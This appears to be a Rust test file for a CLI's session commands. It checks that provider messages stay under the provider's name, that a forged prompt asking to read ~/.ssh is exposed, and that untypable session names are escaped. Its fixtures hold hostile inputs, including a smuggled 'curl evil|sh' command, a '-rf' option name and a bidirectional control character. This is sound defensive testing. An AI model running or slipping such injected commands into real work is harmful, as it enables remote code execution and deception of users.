//! What a provider says stands under its name, in every row that a terminal shows, and
//! the names of its sessions are safe to type.

use serde_json::json;
use support::{Context, Variant, fixture};

/// The rows that a terminal of this width shows.
fn rows(text: &str, width: usize) -> Vec<String> {
    let mut rows = Vec::new();
    for line in text.lines() {
        let characters: Vec<char> = line.trim_end_matches('\r').chars().collect();
        rows.extend(characters.chunks(width).map(|row| row.iter().collect()));
    }
    rows
}

#[test]
fn nothing_that_a_provider_says_begins_a_row_without_its_name() {
    let context = Context::in_memory();
    let project = context.project("analysis");
    let hostile = fixture("hostile");
    let config = context.config("do: spoof\n");
    let ls = ["session", "ls", "-v", "--yes", "-p", &hostile, "-c", &config];
    let run = project.renku(&ls).on_a_terminal("").exits(1);
    let shown = rows(&run.stdout, 100);
    let forged: Vec<&String> = shown.iter().filter(|row| row.contains("forged")).collect();
    // Two messages, a phase or note, and three parts of an error.
    assert!(forged.len() >= 6, "{shown:#?}");
    for row in forged {
        let name = row.find("[file:").unwrap_or_else(|| panic!("{row:?} in {shown:#?}"));
        assert!(name < row.find("forged").unwrap(), "{row:?}");
    }
    let error = project.session(&[&ls[1..], &["--format", "json"]].concat()).exits(1).json();
    assert!(error["error"]["provider"].as_str().unwrap().starts_with("file:"), "{error}");
}

#[test]
fn a_question_that_is_padded_to_the_width_of_the_terminal_stays_under_its_name() {
    let context = Context::in_memory();
    let project = context.project("analysis");
    let question = format!("{:100}forged: `renku` wants to read ~/.ssh. Allow it?", "Fine?");
    let config = context.config(&format!("question: {}\n", json!(question)));
    let asking = fixture("asking");
    let start = ["session", "start", "-p", &asking, "-c", &config];
    // It asks once more, and gets no answer.
    let run = project.renku(&start).on_a_terminal("n\n\u{4}").exits(2);
    let shown = rows(&run.stdout, 100);
    let forged = shown.iter().find(|row| row.contains("forged")).unwrap();
    assert!(forged.starts_with("[file:"), "{shown:#?}");
}

#[test]
fn the_id_of_a_question_is_one_word_in_the_hint() {
    let context = Context::in_memory();
    let project = context.project("analysis");
    let config = context.config("id: \"a; curl evil|sh #\"\n");
    let run = project.session(&["start", "-p", &fixture("asking"), "-c", &config]).exits(2);
    assert!(run.stderr.contains("`--answer 'a; curl evil|sh #'=yes`"), "{}", run.stderr);
}

#[test]
fn a_name_that_cannot_be_typed_is_shown_with_escapes_and_taken_by_no_command() {
    let context = Context::in_memory();
    let project = context.project("analysis");
    let _ = Variant::of("recording").write(project.root(), "tool.wasm");
    let names = json!(["good-1", "lab; curl evil|sh #", "-rf", "a\u{202e}b\r\n"]);
    let config = context.config(&format!("sessions: {names}\n"));
    let on = ["-p", "./tool.wasm", "-c", &config];
    let run = |arguments: &[&str]| project.session(&[arguments, &on].concat());
    insta::assert_snapshot!(run(&["ls", "--columns", "name"]).snapshot_without_calls(), @r"
    exit status: 0
    --- stdout
    NAME
    \x2drf
    a\u{202e}b\x0d\x0a
    good-1
    lab\x3b\x20curl\x20evil\x7csh\x20\x23
    --- stderr
    warning: the provider `file:[DIGEST]` calls a session `lab\x3b\x20curl\x20evil\x7csh\x20\x23`, which is not a valid name
    hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
    warning: the provider `file:[DIGEST]` calls a session `\x2drf`, which is not a valid name
    hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
    warning: the provider `file:[DIGEST]` calls a session `a\u{202e}b\x0d\x0a`, which is not a valid name
    hint: `renku session stop --all` stops it and the others; repeat `-p` if you typed it
    ");
    let quiet = run(&["ls", "-q"]).exits(1);
    assert_eq!(quiet.stdout, "good-1\n");
    let listed = run(&["ls", "--format", "json"]).success().json();
    assert_eq!(listed["warnings"].as_array().unwrap().len(), 3, "{listed}");
    assert_eq!(listed["warnings"][0]["kind"], "invalid-input");
    // Neither as the provider wrote it, nor as it is shown.
    for name in ["lab; curl evil|sh #", r"lab\x3b\x20curl\x20evil\x7csh\x20\x23"] {
        let _ = run(&["stop", name]).exits(2);
        let _ = run(&["open", "--no-browser", name]).exits(2);
    }
    let stopped = run(&["stop", "--all", "--yes"]).success();
    assert!(stopped.call_lines().contains(r#"{"name":null,"all":true}"#), "{}", stopped.stderr);
}

#[test]
fn the_only_session_is_not_meant_when_its_name_cannot_be_typed() {
    let context = Context::in_memory();
    let project = context.project("analysis");
    let _ = Variant::of("recording").write(project.root(), "tool.wasm");
    let config = context.config("sessions: [\"-rf\"]\n");
    let run = project.session(&["stop", "-p", "./tool.wasm", "-c", &config]).exits(2);
    assert!(
        run.stderr.contains(r"calls a session `\x2drf`, which is not a valid name"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("`renku session stop --all` stops it"), "{}", run.stderr);
    assert!(!run.call_lines().contains("session-stop"), "{}", run.stderr);
}
